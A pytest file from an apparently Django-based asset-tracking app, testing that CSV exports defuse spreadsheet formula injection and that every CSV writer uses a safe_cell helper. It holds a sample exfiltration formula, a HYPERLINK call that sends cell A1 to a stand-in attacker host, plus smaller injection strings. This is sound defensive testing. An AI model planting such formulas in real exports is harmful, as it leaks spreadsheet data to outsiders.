"""Every CSV export writes its text cells through config/spreadsheet.safe_cell (docs/security.md, "exports"):
a tag, type name or unit from an imported file such as =HYPERLINK(...) comes out as text, not as a formula."""

import csv
import io
import re
from pathlib import Path

import pytest
from django.conf import settings
from django.core.management import call_command

from lifecycle.biomed.views import _safe
from lifecycle.models import TransitionLog
from tests.factories import AssetFactory, AssetTypeFactory

FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'
# Writes the demo's own input file (demo/assets.csv), read back by import_assets: not an export.
NOT_EXPORTS = {"demo/generate.py"}


@pytest.mark.django_db
def test_export_transition_log_writes_formulas_as_text():
    asset = AssetFactory(asset_tag=FORMULA, asset_type=AssetTypeFactory(name=" +SUM(1)"), unit="@cmd")
    TransitionLog.objects.create(asset=asset, transition="start_use", from_state="available", to_state="in_use")
    out = io.StringIO()
    call_command("export_transition_log", stdout=out)
    [row] = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert (row["asset_tag"], row["asset_type"], row["unit"]) == ("'" + FORMULA, "' +SUM(1)", "'@cmd")
    assert (row["transition"], row["from_state"], row["to_state"]) == ("start_use", "available", "in_use")


def test_the_biomed_reports_use_the_same_rule():
    assert [_safe(v) for v in (" =1+1", "＝1+1", "-2", "4 West", 3)] == ["' =1+1", "'＝1+1", "'-2", "4 West", 3]


def test_every_csv_writer_in_the_code_base_goes_through_safe_cell():
    root = Path(settings.BASE_DIR)
    skipped = ("tests", "benchmarks", "node_modules", "staticfiles")
    writers = [
        path
        for path in root.rglob("*.py")
        if not path.relative_to(root).parts[0].startswith(".")
        and path.relative_to(root).parts[0] not in skipped
        and re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8"))
    ]
    assert len(writers) >= 4, writers  # the asset list, location history, transition log, biomed reports
    unsafe = [
        str(path.relative_to(root))
        for path in writers
        if str(path.relative_to(root)) not in NOT_EXPORTS and "safe_cell" not in path.read_text(encoding="utf-8")
    ]
    assert unsafe == []
